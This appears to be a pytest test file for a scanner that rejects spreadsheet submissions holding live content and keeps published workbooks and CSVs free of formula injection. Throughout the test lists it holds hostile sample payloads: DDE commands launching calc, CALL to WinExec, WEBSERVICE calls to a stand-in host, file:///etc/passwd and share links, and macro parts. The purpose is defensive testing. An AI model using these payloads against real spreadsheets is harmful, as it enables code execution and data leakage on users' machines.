"""Nothing that acts or reaches outside: agencies' live formulas go back with their cell, and no output of ours holds any."""

from __future__ import annotations

import csv
import io
import time
import zipfile
from functools import partial
from pathlib import Path
from typing import Any

import filling
import openpyxl
import pytest
from hostile import DDE_LINK, EXTERNAL, OLE_LINK, SHEET, Parts, packed, set_in
from season_tools import Trial

from processors.guard import checked
from templates.live import live_functions, reach
from templates.load import SHIPPED, load_framework
from workbook import live
from workbook.address import Cell
from workbook.book import Book, Chart, Formula, Link, Name, Note, Put, Rule, Series, Sheet
from workbook.patch import set_cells
from workbook.write import write

DAY = "2014-05-20"
NASTY = (
    "=cmd|'/c calc'!A0", "+1+1", "@SUM(1)", "-2+3", "\tx", "\rx", '=HYPERLINK("http://x","y")', "=1+1", "-x", "+cmd|' /C calc'!A0", "@x",
)  # fmt: skip
"""What an agency may type as text and a spreadsheet might take for a formula."""


def parts_of(path: Path) -> Parts:
    with zipfile.ZipFile(path) as source:
        return {name: source.read(name) for name in source.namelist()}


@pytest.fixture(scope="module")
def season(tmp_path_factory: pytest.TempPathFactory) -> Trial:
    trial = Trial(tmp_path_factory.mktemp("live") / "season")
    assert trial.run("issue", "plan").status == 0
    return trial


@pytest.fixture(scope="module")
def filled(season: Trial, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return filling.fill(season.issued("D01021", "plan"), tmp_path_factory.mktemp("filled") / "plan.xlsx", filling.PLAN)


# 1. What comes back


LIVE = [
    ("cmd|'/c calc'!A0", "|"),
    ("+cmd|'/c calc'!A0", "|"),
    ("MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''", "|"),
    ('HYPERLINK("http://x.example","y")', "://"),
    ('HYPERLINK("mailto:a@b.c")', "://"),
    ("HYPERLINK(A1)", "HYPERLINK"),
    ('hyperlink( A1,"#x")', "HYPERLINK"),
    ('IF(1,HYPERLINK("#a"),HYPERLINK(B1))', "HYPERLINK"),
    ('_xlfn.WEBSERVICE("http"&A1)', "WEBSERVICE"),
    ('FILTERXML(WEBSERVICE(A1),"//a")', "FILTERXML"),
    ('RTD("x",,"y")', "RTD"),
    ('CALL("Kernel32","WinExec","JCJ","calc",0)', "CALL"),
    ('REGISTER.ID("a","b")', "REGISTER.ID"),
    ('EXEC("calc")', "EXEC"),
    ('INFO("directory")', "INFO"),
    ('IMPORTXML(A1,"x")', "IMPORTXML"),
    ("IMAGE(A1)", "IMAGE"),
    ("_xll.Anything(1)", "_XLL.ANYTHING"),
    ("[1]Sheet1!$A$1", "[ ]"),
    ("SUM('C:\\x\\[Book.xlsx]แผน'!A1:A3)", "[ ]"),
    ("SUM([Book.xlsx]Sheet1!A1)", "[ ]"),
    ("INDIRECT(\"'file:///etc/passwd'#$Sheet1.A1\")", "://"),
    ("'\\\\host\\share\\[b.xlsx]S'!A1", "://"),
    ('of:=DDE("soffice";"/tmp/x";"a")', "DDE"),
    ("of:=['file:///tmp/x.ods'#$S.A1]", "://"),
]
DEAD = [
    "SUM(A1:A3)", '"=cmd|x"', 'IF(A1="a|b",1,2)', "Table1[Amount]*2", "Table1[[#This Row],[a]]+Sheet1!A1", "'งาน | แผน'!A1",
    'HYPERLINK("#"&A1,"x")', "HYPERLINK(\"#'แผน'!A1\")", "of:=SUM([.A1:.A3])", "of:={1;2|3;4}", "of:=[$'แผน'.A1]", "INFORMATION(1)",
    "MYCALL(1)", "of:=[.A1:.B2]![.B1:.C3]", 'IF(A1="\'","[a]!b",1)', 'TEXT(A1,"[$-D07041E]d mmm yyyy")', "SUM({1,2;3,4})",
]  # fmt: skip


@pytest.mark.parametrize(("formula", "what"), LIVE)
def test_a_formula_that_reaches_outside_is_named(formula: str, what: str) -> None:
    assert reach(formula) == what


@pytest.mark.parametrize("formula", DEAD)
def test_an_innocent_formula_is_left_alone(formula: str) -> None:
    assert reach(formula) == ""


@pytest.mark.parametrize("piece", ["x", "1", "'", '"', "[", "]", "{", "(", "|", "a.", "a(", "'[", "[a]", "a\"", " ", "://"])
def test_no_formula_takes_long_to_look_at(piece: str) -> None:
    begin = time.process_time()
    reach(piece * 200_000)
    reach("A1+" + piece * 200_000 + "x")
    assert time.process_time() - begin < 2


@pytest.mark.parametrize("name", sorted(live_functions()))
def test_every_function_of_the_list_is_found(name: str) -> None:
    assert reach(f"1+{name}(A1)") == name
    assert reach(f"MY{name}(A1)") == ""


def test_the_formulas_of_every_form_are_dead(season: Trial) -> None:
    """Both lists agree about our own: what the forms use is dead to the reader of returns and on the list of outputs."""
    for path in sorted((season.root / "outbox").rglob("*.xlsx")):
        book = openpyxl.load_workbook(path)
        texts = {str(cell.value)[1:] for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"}
        assert len(texts) > 100
        assert {reach(text) or live.reach(text) for text in texts} == {""}


def judged(season: Trial, data: bytes, folder: Path) -> dict[str, Any]:
    path = folder / "sent.xlsx"
    path.write_bytes(data)
    return season.verdict(path, DAY)


PLACES = ("entry", "locked", "outside", "own sheet", "hidden sheet")


@pytest.fixture(scope="module")
def placed(season: Trial, filled: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[str, str, list[dict[str, Any]]]]:
    """Give, by where a live formula was put, its sheet and cell and the verdicts of two calls of `check`."""
    folder = tmp_path_factory.mktemp("placed")
    where, paths = {}, []
    for place in PLACES:
        book = openpyxl.load_workbook(filled)
        cell = filling.cells_of(book, "basics.rationale")[0]
        if place == "locked":
            cell = book[cell.parent.title]["A1"]
        elif place == "outside":
            cell = book[cell.parent.title]["J40"]
        elif place == "own sheet":
            cell = book.create_sheet("ของฉัน")["B2"]
        elif place == "hidden sheet":
            cell = book["_lists"]["Z9"]
        cell.value = '=WEBSERVICE("http://x.example/"&A1)'
        paths.append(str(folder / f"{place}.xlsx"))
        book.save(paths[-1])
        where[place] = (cell.parent.title, cell.coordinate)
    calls = [season.run("check", *paths, "--json", day=DAY).json() for _ in range(2)]
    return {place: (*where[place], [call[at] for call in calls]) for at, place in enumerate(PLACES)}


@pytest.mark.parametrize("place", PLACES)
def test_a_live_formula_anywhere_goes_back_with_its_cell(placed: dict[str, tuple[str, str, list[dict[str, Any]]]], place: str) -> None:
    sheet, cell, verdicts = placed[place]
    for verdict in verdicts:
        found = [item for item in verdict["findings"] if item["code"] == "LIVE_FORMULA"]
        assert (verdict["verdict"], verdict["agency"]) == ("returned", "D01021")
        assert [(item["sheet"], item["cell"], item["severity"]) for item in found] == [(sheet, cell, "error")]
        assert found[0]["message"] and found[0]["fix"]


def test_live_formulas_in_rules_and_names(season: Trial, filled: Path, tmp_path: Path) -> None:
    parts = parts_of(filled)
    rule = b"<conditionalFormatting sqref=\"C3:C9\"><cfRule type=\"expression\" priority=\"99\"><formula>cmd|'/c calc'!A0</formula></cfRule></conditionalFormatting>"
    verdict = judged(season, packed(set_in(parts, SHEET, b"<pageMargins", rule + b"<pageMargins")), tmp_path)
    assert [item["cell"] for item in verdict["findings"] if item["code"] == "LIVE_FORMULA"] == ["C3"]
    name = b"<definedName name=\"go\">cmd|'/c calc'!A0</definedName>"
    verdict = judged(season, packed(set_in(parts, "xl/workbook.xml", b"</definedNames>", name + b"</definedNames>")), tmp_path)
    assert [item["severity"] for item in verdict["findings"] if item["code"] == "LIVE_NAME"] == ["error"]
    assert verdict["verdict"] == "returned"


LINKED = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="External"/></Relationships>'
ACTING = {
    "DDE link": ("xl/externalLinks/externalLink1.xml", DDE_LINK, {"LIVE_PART", "EXTERNAL_LINKS"}),
    "OLE link": ("xl/externalLinks/externalLink1.xml", OLE_LINK, {"LIVE_PART", "EXTERNAL_LINKS"}),
    "link to a file": ("xl/externalLinks/externalLink1.xml", EXTERNAL % b"", {"EXTERNAL_LINKS"}),
    "connection": ("xl/connections.xml", b"<connections/>", {"EXTERNAL_LINKS"}),
    "query": ("xl/queryTables/queryTable1.xml", b"<queryTable/>", {"LIVE_PART"}),
    "web extension": ("xl/webextensions/webextension1.xml", b"<a/>", {"LIVE_PART"}),
    "control": ("xl/activeX/activeX1.xml", b"<a/>", {"LIVE_PART"}),
    "bound XML": ("xl/xmlMaps.xml", b"<a/>", {"LIVE_PART"}),
    "ribbon": ("customUI/customUI.xml", b"<a/>", {"LIVE_PART"}),
    "embedded file": ("xl/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0", {"EMBEDDED"}),
    "archive as a picture": ("xl/media/image1.png", b"PK\x03\x04", {"EMBEDDED"}),
    "program as a picture": ("xl/media/image1.emf", b"MZ\x90\x00", {"EMBEDDED"}),
    "linked picture": ("xl/drawings/_rels/drawing9.xml.rels", LINKED % (b"image", b"http://x.example/a.png"), {"LIVE_PART"}),
    "linked object": ("xl/worksheets/_rels/sheet1.xml.rels", LINKED % (b"oleObject", b"file:///x"), {"LIVE_PART"}),
}
INNOCENT = {
    "link by click": ("xl/worksheets/_rels/sheet2.xml.rels", LINKED % (b"hyperlink", b"mailto:a@b.c")),
    "web link by click": ("xl/worksheets/_rels/sheet2.xml.rels", LINKED % (b"hyperlink", b"http://www.opdc.go.th")),
    "picture": ("xl/media/image1.png", b"\x89PNG\r\n\x1a\n"),
    "printer": ("xl/printerSettings/printerSettings1.bin", b"\x00\x01"),
    "label of a server": ("customXml/item1.xml", b"<a/>"),
}


@pytest.fixture(scope="module")
def carried(season: Trial, filled: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[str, set[str]]]:
    """Give verdict and new errors of each file that carries something, and of the good one, by one call."""
    folder, parts = tmp_path_factory.mktemp("carried"), parts_of(filled)
    files = {name: {**parts, part: content} for name, (part, content, *_) in {**ACTING, **INNOCENT}.items()} | {"good": parts}
    paths = [folder / f"{at}.xlsx" for at in range(len(files))]
    for path, content in zip(paths, files.values(), strict=True):
        path.write_bytes(packed(content))
    verdicts = season.run("check", *map(str, paths), "--json", day=DAY).json()
    return {
        name: (verdict["verdict"], {item["code"] for item in verdict["findings"] if item["severity"] == "error"})
        for name, verdict in zip(files, verdicts, strict=True)
    }


@pytest.mark.parametrize("name", ACTING)
def test_a_part_that_acts_goes_back(carried: dict[str, tuple[str, set[str]]], name: str) -> None:
    assert carried[name] == ("returned", ACTING[name][2])


@pytest.mark.parametrize("name", [*INNOCENT, "good"])
def test_an_honest_officer_is_not_punished(carried: dict[str, tuple[str, set[str]]], name: str) -> None:
    assert carried[name] == ("accepted", set())


def test_opendocument_links_and_objects(season: Trial, tmp_path: Path) -> None:
    from test_gate import CELL, make_ods

    from workbook.read import read

    row = "<table:table-row>" + CELL.format(" table:formula='of:=DDE(\"a\";\"b\";\"c\")'") + "</table:table-row>"
    book, found = read(make_ods(row))
    assert book is not None and book.sheets[0].formulas == ((Cell(1, 1), 'of:=DDE("a";"b";"c")'),) and found == []
    with zipfile.ZipFile(io.BytesIO(make_ods(row))) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    parts["content.xml"] = parts["content.xml"].replace(b"</table:table>", b"</table:table><table:dde-links><table:dde-link/></table:dde-links>")
    assert [item.code for item in read(packed(parts))[1]] == ["LIVE_PART"]
    parts = {**parts, "content.xml": make_parts(row), "META-INF/manifest.xml": b'<m media-type="application/vnd.sun.star.oleobject"/>'}
    assert [item.code for item in read(packed(parts))[1]] == ["EMBEDDED"]


def make_parts(row: str) -> bytes:
    from test_gate import make_ods

    with zipfile.ZipFile(io.BytesIO(make_ods(row))) as source:
        return source.read("content.xml")


# 2. What goes out


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Trial:
    """Give a season in which every entry field of a plan and a report got text that looks like a formula, typed as text."""
    trial = Trial(tmp_path_factory.mktemp("nasty") / "season")
    plan = load_framework(SHIPPED / "dept_2557").form("plan")
    assert trial.run("issue", "plan", day=DAY).status == 0
    _nasty(trial, "D01002", plan.id, every=True)
    # Text in every field that takes text is still a good plan, so that it reaches the results.
    texts = {name: [NASTY[(at + n) % len(NASTY)] for n, _ in enumerate(items)] for at, (name, items) in enumerate(TEXTS.items())}
    _typed(trial, "D01021", "plan", {**filling.PLAN, **texts})
    trial.run("nightly", day=DAY)
    assert trial.run("issue", "report9", "--agency", "D01021", day="2014-08-20").status == 0
    said = {name: [NASTY[at % len(NASTY)] for at in range(len(items))] for name, items in REPORT_TEXTS.items()}
    _typed(trial, "D01021", "report9", {**filling.REPORT, **said})
    trial.run("nightly", day="2014-08-20")
    return trial


TEXTS = {
    name: filling.PLAN[name]
    for name in (
        "basics.rationale", "basics.objective", "basics.risk_analysis", "basics.approach", "basics.success", "risks.step", "risks.risk",
        "risks.cause", "risks.effect", "measures.additional_measure", "activities.activity", "activities.responsible",
        "activities.output", "indicators.name", "indicators.unit", "recorder.name", "recorder.position", "certifier.name",
    )
}  # fmt: skip
REPORT_TEXTS = {name: filling.REPORT[name] for name in ("measures.summary", "measures.output", "evidence.title", "obstacles.obstacles")}


def _typed(trial: Trial, agency: str, form: str, values: dict[str, list[Any]]) -> None:
    """Type values as text cells, whatever they look like."""
    issued = trial.issued(agency, form)
    book = openpyxl.load_workbook(issued)
    cells: dict[tuple[str, Cell], Any] = {}
    for name, items in values.items():
        for cell, item in zip(filling.cells_of(book, name), items, strict=False):
            if item is not None:
                cells[cell.parent.title, Cell(cell.row, cell.column)] = item
    (trial.root / "inbox" / f"{agency}_{form}.xlsx").write_bytes(set_cells(issued.read_bytes(), cells))


def _nasty(trial: Trial, agency: str, form: str, *, every: bool) -> None:
    spec = load_framework(SHIPPED / "dept_2557").form(form)
    book = openpyxl.load_workbook(trial.issued(agency, form))
    values = {}
    for table in spec.tables:
        for at, field in enumerate(table.entries):
            name = f"{table.id}.{field.id}"
            if every and name in book.defined_names:
                values[name] = [NASTY[(at + n) % len(NASTY)] for n in range(len(filling.cells_of(book, name)))]
    assert len(values) > 25
    _typed(trial, agency, form, values)


def test_the_nasty_texts_arrived(published: Trial) -> None:
    counts = {(row["agency"], row["form"]): row["value"] for row in published.table("answers") if row["table"] in ("risks", "measures")}
    assert {("D01021", "dept_2557/plan"), ("D01021", "dept_2557/report9")} <= counts.keys()
    assert any(text.startswith("'=") for text in (row["value"] for row in published.table("answers")))


def test_no_output_runs_what_an_agency_typed(published: Trial) -> None:
    """By another reader: all formulas of all outputs are those that a form without answers has, or of ours by their functions."""
    paths = [*sorted((published.root / "outbox").rglob("*.xlsx")), *sorted((published.root / "results").rglob("*.xlsx"))]
    assert len([path for path in paths if path.name.startswith("fix_")]) == 1
    texts = 0
    for path in paths:
        for sheet in openpyxl.load_workbook(path):
            for cell in (cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)):
                if cell.data_type == "f":
                    assert live.reach(cell.value[1:]) == "" and cell.value not in NASTY, (path, sheet.title, cell.coordinate)
                else:
                    texts += cell.value.strip() in {text.strip() for text in NASTY}
                assert cell.hyperlink is None or "://" not in (cell.hyperlink.target or ""), (path, cell.coordinate)
    assert texts > 50


def test_no_csv_runs_what_an_agency_typed(published: Trial) -> None:
    found = 0
    for path in sorted((published.root / "results" / "data").glob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as lines:
            for text in (text for row in csv.reader(lines) for text in row):
                found += text.startswith("'")
                assert text[:1] not in tuple("=+@\t\r") or not text, (path, text)
                assert not text.startswith("-") or text.lstrip("-").replace(".", "", 1).isdigit(), (path, text)
    assert found > 10


def test_every_output_passes_the_scan(published: Trial) -> None:
    for folder in ("outbox", "results"):
        for path in sorted((published.root / folder).rglob("*.xlsx")):
            name = path.relative_to(published.root / folder).as_posix() if folder == "results" else path.name
            live.check(path.read_bytes(), name)


# 3. The scan itself: everything on its lists, and something beside each


def whole() -> bytes:
    """Give a workbook with everything that a page of ours may hold."""
    charted = Chart(Cell(9, 1), "bar", "t", (Series("s", "S", (Cell(1, 1), Cell(2, 1)), (Cell(1, 2), Cell(2, 2))),))
    sheet = Sheet(
        "S",
        puts=(
            Put(Cell(1, 1), "=cmd|'/c calc'!A0"), Put(Cell(1, 2), 1), Put(Cell(2, 1), Formula("=SUM(B1:B2)", 1)),
            Put(Cell(3, 1), Formula('=HYPERLINK("#S!A1","x")', "x")), Put(Cell(4, 1), Link("x", sheet="S", cell=Cell(1, 1))),
            Put(Cell(5, 1), Link("x", file="ministries/MOI.xlsx")),
        ),
        notes=(Note(Cell(1, 1), "note"),), charts=(charted,),
        rules=(Rule((Cell(6, 1),), "list", source="=n"),),
    )  # fmt: skip
    return write(Book((sheet,), names=(Name("n", "S", (Cell(1, 1),)),), properties={"a": "b"}))


@pytest.fixture(scope="module")
def clean() -> Parts:
    with zipfile.ZipFile(io.BytesIO(whole())) as source:
        return {name: source.read(name) for name in source.namelist()}


def test_everything_that_we_write_passes(clean: Parts) -> None:
    data = whole()
    assert checked(data, "national.xlsx") is data
    live.check(packed(clean), "national.xlsx")
    # From the folder of the ministries the same link still stays within; from outside the results none would.
    live.check(data, "ministries/MOI.xlsx")


PAGE = "xl/worksheets/sheet1.xml"
PAGE_RELS = "xl/worksheets/_rels/sheet1.xml.rels"
SUM = b"<f>SUM(B1:B2)</f>"


def swap(part: str, old: bytes, new: bytes, parts: Parts) -> Parts:
    return set_in(parts, part, old, new)


def add(part: str, content: bytes, parts: Parts) -> Parts:
    return {**parts, part: content}


SMUGGLED = {
    "DDE formula": partial(swap, PAGE, SUM, b"<f>cmd|'/c calc'!A0</f>"),
    "function that is not listed": partial(swap, PAGE, SUM, b"<f>WEBSERVICE(B1)</f>"),
    "unknown function": partial(swap, PAGE, SUM, b"<f>SUM(MYOWN(B1))</f>"),
    "function in small letters": partial(swap, PAGE, SUM, b"<f>webservice(B1)</f>"),
    "add-in": partial(swap, PAGE, SUM, b"<f>_xll.SUM(B1)</f>"),
    "link to an address": partial(swap, PAGE, b"#S!A1", b"http://x/"),
    "link made elsewhere": partial(swap, PAGE, SUM, b"<f>HYPERLINK(B1)</f>"),
    "another workbook": partial(swap, PAGE, SUM, b"<f>[1]S!A1</f>"),
    "share": partial(swap, PAGE, SUM, b"<f>'\\\\host\\a'!A1</f>"),
    "array formula": partial(swap, PAGE, SUM, b'<f t="array" ref="A2">SUM(B1:B2)</f>'),
    "text of no formula": partial(swap, PAGE, b't="s"', b't="str"'),
    "error of no formula": partial(swap, PAGE, b't="s"', b't="e"'),
    "formula of a rule": partial(swap, PAGE, b"</sheetData>", b"</sheetData><conditionalFormatting sqref='A1'><cfRule><formula>EXEC(1)</formula></cfRule></conditionalFormatting>"),
    "formula of a validation": partial(swap, PAGE, b"</sheetData>", b"</sheetData><dataValidations><dataValidation><formula1>EXEC(1)</formula1></dataValidation></dataValidations>"),
    "formula of a chart": partial(swap, "xl/charts/chart1.xml", b"<c:f>'S'!", b"<c:f>[1]S!"),
    "name with a formula": partial(swap, "xl/workbook.xml", b"'S'!$A$1</definedName>", b"SUM('S'!$A$1)</definedName>"),
    "name of a macro": partial(swap, "xl/workbook.xml", b'<definedName name="n"', b'<definedName name="n" xlm="1"'),
    "link that climbs": partial(swap, PAGE_RELS, b"ministries/MOI", b"..\\MOI"),
    "link to a drive": partial(swap, PAGE_RELS, b"ministries/MOI", b"file:///C:/MOI"),
    "link to a share": partial(swap, PAGE_RELS, b"ministries/MOI", b"\\\\host\\MOI"),
    "link that hides its climbing": partial(swap, PAGE_RELS, b"ministries/MOI", b"%2e%2e%2fMOI"),
    "link within that is none": partial(swap, PAGE, b"location=\"'S'!A1\"", b'location="http://x"'),
    "relation that is not listed": partial(swap, PAGE_RELS, b"relationships/hyperlink", b"relationships/oleObject"),
    "relation outside": partial(swap, "xl/_rels/workbook.xml.rels", b'Target="theme/theme1.xml"', b'Target="theme/theme1.xml" TargetMode="External"'),
    "type that is not listed": partial(swap, "[Content_Types].xml", b"spreadsheetml.sheet.main+xml", b"x/../application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    "type of macros": partial(swap, "[Content_Types].xml", b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", b"application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
    "macros": partial(add, "xl/vbaProject.bin", b"x"),
    "links": partial(add, "xl/externalLinks/externalLink1.xml", b"<a/>"),
    "connections": partial(add, "xl/connections.xml", b"<a/>"),
    "embedded file": partial(add, "xl/embeddings/oleObject1.bin", b"x"),
    "bound XML": partial(add, "customXml/item1.xml", b"<a/>"),
    "picture": partial(add, "xl/media/image1.png", b"x"),
    "macro in a note": partial(swap, "xl/drawings/vmlDrawing1.vml", b"<x:Row>", b"<x:FmlaMacro>x</x:FmlaMacro><x:Row>"),
    "doctype": partial(swap, PAGE, b"?>", b"?><!DOCTYPE x>"),
}


@pytest.mark.parametrize("name", SMUGGLED)
def test_what_was_smuggled_in_is_refused(clean: Parts, name: str) -> None:
    with pytest.raises(live.LiveError) as caught:
        checked(packed(SMUGGLED[name](clean)), "national.xlsx")
    assert caught.value.status == 1
    assert "national.xlsx" in str(caught.value)


def test_the_refusal_names_file_sheet_and_cell(clean: Parts) -> None:
    with pytest.raises(live.LiveError, match=r"national\.xlsx: S!A2: \|"):
        checked(packed(SMUGGLED["DDE formula"](clean)), "national.xlsx")


@pytest.mark.parametrize("name", sorted(live.FUNCTIONS))
def test_every_listed_function_passes_and_a_longer_name_does_not(name: str) -> None:
    assert live.reach(f'{name}("#"&A1)') == ""
    assert live.reach(f"{name}X(A1)") == f"{name}X"
    assert name not in live_functions() or live.reach(f"{name}(A1)") == name


@pytest.mark.parametrize("text", ["=1", "+a", "-a", "@a", "\ta", "\ra", "-1-1", "+1+1", '=HYPERLINK("x")'])
def test_a_cell_of_a_csv_that_would_run_is_refused(text: str) -> None:
    row = io.StringIO()
    csv.writer(row, lineterminator="\r\n").writerows([["a", "b"], ["x", text]])
    with pytest.raises(live.LiveError, match=r"data/x\.csv: row 2, column 2"):
        checked(row.getvalue().encode("utf-8-sig"), "data/x.csv")


def test_a_good_csv_passes() -> None:
    data = "a,b\r\n'=1,-2.50\r\n\"x\r\n=1\",'+a\r\n".encode("utf-8-sig")
    assert checked(data, "data/x.csv") is data
    assert checked(b"anything", "SHA256SUMS") == b"anything"


def test_nothing_is_published_when_the_scan_refuses(published: Trial, monkeypatch: pytest.MonkeyPatch) -> None:
    """One function fewer on the list is as good as one formula that is not ours."""
    before = published.digests()
    monkeypatch.setattr(live, "RELATIONS", live.RELATIONS - {"worksheet"})
    told = published.run("publish", day="2014-08-20")
    assert told.status == 1 and "live content" in told.err
    assert {k: v for k, v in published.digests().items() if k.startswith("results/")} == {
        k: v for k, v in before.items() if k.startswith("results/")
    }
